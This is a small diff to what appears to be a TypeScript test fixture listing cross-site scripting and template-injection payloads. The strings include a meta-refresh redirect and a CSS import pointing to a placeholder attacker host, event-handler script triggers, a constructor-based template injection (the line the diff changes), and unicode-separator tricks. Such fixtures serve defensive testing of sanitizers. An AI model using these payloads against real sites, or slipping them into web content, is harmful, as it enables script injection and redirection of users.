@@ -24,7 +24,7 @@ export const payloads: readonly string[] = [
   '<meta http-equiv=refresh content="0;url=https://attacker.invalid/">',
   '<style>@import "https://attacker.invalid/a.css";</style>',
   '<video poster=https://attacker.invalid/a.png autoplay onplay=pwned()></video>',
-  '{{constructor.constructor("pwned()")()}}${pwned()}',
+  '{{constructor.constructor("pwned()")()}}#{pwned()}',
   '\u2028pwned()\u2029<\u000bscript>pwned()</script>',
 ];
 
